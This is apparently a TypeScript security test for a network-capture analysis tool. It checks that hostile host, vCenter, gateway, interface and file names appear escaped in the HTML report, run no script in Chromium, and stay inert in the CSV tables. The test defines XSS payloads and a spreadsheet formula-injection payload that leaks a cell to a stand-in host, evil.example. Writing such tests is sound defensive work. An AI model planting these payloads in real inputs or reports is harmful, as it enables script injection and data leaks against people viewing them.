/**
 * Everything the reports take from captures and inventories is data, never markup or formulas:
 * hostile host, vCenter and gateway names in the inventory, a pcapng interface name and a capture
 * file name made of HTML. The HTML report is checked as text (no element or attribute the report
 * does not write itself) and in Chromium with scripts on (no dialog opens, no handler exists);
 * the CSV tables hold no cell a spreadsheet would run as a formula.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { chromium } from 'playwright-core';
import type { AnalysisReport } from '../../core/contract/report.js';
import { inventoryToYaml } from '../../core/inventory/yaml-writer.js';
import { buildHosts, siteInventory } from '../../core/synth/topology.js';
import { CHROMIUM, CHROMIUM_ARGS } from '../helpers/browser-mode.js';
import { epb, idb, shb, udpFrame } from '../helpers/capture-bytes.js';
import { runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/temp.js';
import { liveMarkup } from '../fuzz/targets.js';

const dir = tempDir('vmkscope-escaping-');

const HOSTILE = {
  host: '<script>alert(1)</script>',
  host2: '"><img src=x onerror=alert(2)>',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  vcenter: '</table><svg onload=alert(3)>',
  gateway: "'><iframe src=javascript:alert(4)>",
  ifName: '<img src=x onerror=alert(5)>',
  file: '<svg onload=alert(6)>.pcapng',
};

test('hostile names from inventories and captures reach the HTML report as text and the CSV tables as text', { timeout: 120_000 }, async (t) => {
  const capture = path.join(dir, 'site.pcap');
  const gen = await runCli(['generate', '--packets', '3000', '--scale', '0.02', '--vlan', '-o', capture]);
  assert.equal(gen.code, 0, gen.stderr);
  const inventory = siteInventory(buildHosts(4));
  inventory.hosts[0].name = HOSTILE.host;
  inventory.hosts[1].name = HOSTILE.host2;
  inventory.hosts[2].name = HOSTILE.formula;
  inventory.vcenters[0].name = HOSTILE.vcenter;
  inventory.gateways[0].name = HOSTILE.gateway;
  const inventoryFile = path.join(dir, 'inventory.yaml');
  fs.writeFileSync(inventoryFile, inventoryToYaml(inventory));
  const named = path.join(dir, HOSTILE.file);
  fs.writeFileSync(named, Buffer.concat([shb(), idb(1, { name: HOSTILE.ifName }), epb(0, udpFrame())]));

  const html = path.join(dir, 'report.html');
  const csv = path.join(dir, 'csv');
  const r = await runCli(['analyze', capture, named, '--inventory', inventoryFile, '--html', html, '--csv', csv, '--json', '-']);
  assert.ok(r.code === 0 || r.code === 1, r.stderr);
  const report = JSON.parse(r.stdout) as AnalysisReport;
  // The hostile strings are really in the report (else this test would prove nothing).
  const json = JSON.stringify(report);
  for (const s of Object.values(HOSTILE)) assert.ok(json.includes(JSON.stringify(s).slice(1, -1)), `${s} is in the report`);
  assert.ok(report.flows.some((f) => f.client.host === HOSTILE.host || f.server.host === HOSTILE.host), 'flows are attributed to the hostile host');
  assert.equal(report.captures[1].interfaces[0].name, HOSTILE.ifName);

  const text = fs.readFileSync(html, 'utf8');
  assert.equal(liveMarkup(text), null);
  for (const s of [HOSTILE.host, HOSTILE.host2, HOSTILE.vcenter, HOSTILE.gateway, HOSTILE.file]) assert.ok(!text.includes(s), `${s} appears raw in the HTML`);
  assert.ok(text.includes('&lt;script&gt;alert(1)&lt;/script&gt;'), 'shown escaped');
  assert.ok(text.includes('&lt;svg onload=alert(6)&gt;.pcapng'), 'the file name shown escaped');

  for (const name of fs.readdirSync(csv)) {
    for (const cell of parseCsvCells(fs.readFileSync(path.join(csv, name), 'utf8'))) {
      assert.doesNotMatch(cell, /^[=+@\t\r]|^-[^\d]/, `${name}: a cell a spreadsheet would evaluate: ${cell}`);
    }
  }
  assert.ok(fs.readFileSync(path.join(csv, 'flows.csv'), 'utf8').includes(`'${HOSTILE.formula.replace(/"/g, '""')}`), 'the formula kept as text, quoted');

  if (CHROMIUM === null) {
    t.skip('Chromium is not installed (Debian package chromium): the HTML was checked as text only');
    return;
  }
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
  try {
    const page = await browser.newPage({ javaScriptEnabled: true });
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(`file://${html}`);
    await page.waitForTimeout(300);
    const found = await page.evaluate(() => ({
      scripts: document.querySelectorAll('script, iframe, img, object, embed').length,
      handlers: Array.from(document.querySelectorAll('*')).filter((el) => Array.from(el.attributes).some((a) => a.name.startsWith('on'))).length,
      title: document.title,
    }));
    assert.deepEqual(dialogs, []);
    assert.deepEqual({ scripts: found.scripts, handlers: found.handlers }, { scripts: 0, handlers: 0 });
    assert.ok(found.title.includes(HOSTILE.file), 'the title shows the file name as text');
  } finally {
    await browser.close();
  }
});

/** Every cell of an RFC 4180 table, unquoted. */
function parseCsvCells(text: string): string[] {
  const cells: string[] = [];
  for (const m of text.matchAll(/"((?:[^"]|"")*)"|([^,\r\n]+)/g)) cells.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
  return cells;
}
